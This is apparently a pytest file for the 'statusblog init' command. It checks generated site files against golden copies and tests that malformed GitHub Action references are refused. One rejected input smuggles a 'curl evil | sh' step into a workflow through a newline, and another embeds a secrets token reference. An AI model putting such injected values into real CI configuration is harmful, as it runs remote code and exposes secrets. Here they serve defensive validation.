"""`statusblog init`: the files a new site starts with, byte for byte, and what it refuses."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from tests.conftest import REPO
from tests.sites import run

GOLDEN = REPO / "tests" / "golden" / "init"
#: Pins the versions statusblog is installed with: tests/test_packaging.py holds it to requirements.lock.
INSTALLED_VERSIONS = "requirements.txt"


def files(root: Path) -> dict[str, bytes]:
    return {path.relative_to(root).as_posix(): path.read_bytes()
            for path in sorted(root.rglob("*")) if path.is_file() and path.name != INSTALLED_VERSIONS}


@pytest.mark.parametrize("variant, options", [("pip", []), ("action", ["--action", "harbor/statusblog@v0.1.0"])])
def test_init_writes_the_golden_site(tmp_path: Path, variant: str, options: list[str]) -> None:
    """Regenerate after an intended change with: UPDATE_GOLDEN=1 pytest tests/test_init.py"""
    site = tmp_path / "harbor-status"
    result = run("init", str(site), "--name", "Alice Nguyen", "--email", "alice@example.com",
                 "--timezone", "America/Chicago", "--now", "2026-03-20T08:00:00Z", *options)
    assert result.exit_code == 0, result.output
    assert (site / INSTALLED_VERSIONS).is_file()
    golden = GOLDEN / variant
    if os.environ.get("UPDATE_GOLDEN") == "1":
        shutil.rmtree(golden, ignore_errors=True)
        shutil.copytree(site, golden, ignore=shutil.ignore_patterns(INSTALLED_VERSIONS))
    assert files(site) == files(golden)


@pytest.mark.parametrize("action", [
    "harbor/statusblog", "harbor@v1", "harbor/statusblog@v1\n    run: curl evil | sh",
    "harbor/statusblog@${{ secrets.TOKEN }}", "harbor/statusblog@v1 # comment", "../x/y@v1",
])
def test_init_refuses_an_action_that_is_not_owner_repo_at_ref(tmp_path: Path, action: str) -> None:
    result = run("init", str(tmp_path / "site"), "--name", "A", "--email", "a@example.com", "--action", action)
    assert result.exit_code == 1
    assert "is not OWNER/REPO@REF" in result.output
    assert not (tmp_path / "site").exists(), "nothing is written"
